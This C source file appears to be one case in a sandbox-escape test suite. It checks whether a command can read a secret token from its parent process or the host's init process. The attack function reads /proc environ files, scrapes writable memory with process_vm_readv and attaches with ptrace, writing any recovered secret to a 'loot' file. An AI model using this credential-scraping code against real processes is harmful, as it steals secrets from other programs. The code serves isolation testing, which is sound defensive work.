/* processes, hazards 26 and 64: a removed variable read from the process that started the command: its environment in
 * /proc, its memory, and by tracing it.
 */
#include <sys/ptrace.h>
#include <sys/uio.h>
#include <sys/wait.h>

#include "attempt.h"

void launch(char **command)
{
	setenv("FOO_TOKEN", secret, 1);
	exit(run(command));
}

static void keep(int loot, const char *bytes, ssize_t length)
{
	if (length > 0 && write(loot, bytes, (size_t)length) < 0)
		perror("write");
}

static void read_memory(pid_t pid, int loot)
{
	static char bytes[1 << 16];
	unsigned long long start, end;
	char path[64], line[512], writable;
	snprintf(path, sizeof path, "/proc/%d/maps", (int)pid);
	FILE *maps = fopen(path, "r");
	while (maps && fgets(line, sizeof line, maps))
		if (sscanf(line, "%llx-%llx r%c", &start, &end, &writable) == 3 && writable == 'w')
			for (; start < end; start += sizeof bytes) {
				struct iovec mine = { bytes, sizeof bytes },
					     theirs = { (void *)(uintptr_t)start, sizeof bytes };
				keep(loot, bytes, process_vm_readv(pid, &mine, 1, &theirs, 1, 0));
			}
}

static void attack(pid_t pid)
{
	static char bytes[1 << 16];
	char path[64];
	int loot = open(below("WORK", "loot"), O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0600);
	snprintf(path, sizeof path, "/proc/%d/environ", (int)pid);
	int variables = open(path, O_RDONLY | O_CLOEXEC);
	if (variables < 0)
		perror(path);
	keep(loot, bytes, read(variables, bytes, sizeof bytes));
	read_memory(pid, loot);
	if (ptrace(PTRACE_ATTACH, pid, NULL, NULL) != 0) {
		perror("ptrace");
		return;
	}
	waitpid(pid, NULL, __WALL);
	read_memory(pid, loot);
	write_text(below("WORK", "traced"), secret);
	ptrace(PTRACE_DETACH, pid, NULL, NULL);
}

void act(void)
{
	attack(getppid());
	/* Bare that is the host's. */
	if (strcmp(getenv("SIDE"), "inside") == 0)
		attack(1);
}

bool happened(void)
{
	return file_holds(below("WORK", "loot"), secret) || access(below("WORK", "traced"), F_OK) == 0;
}
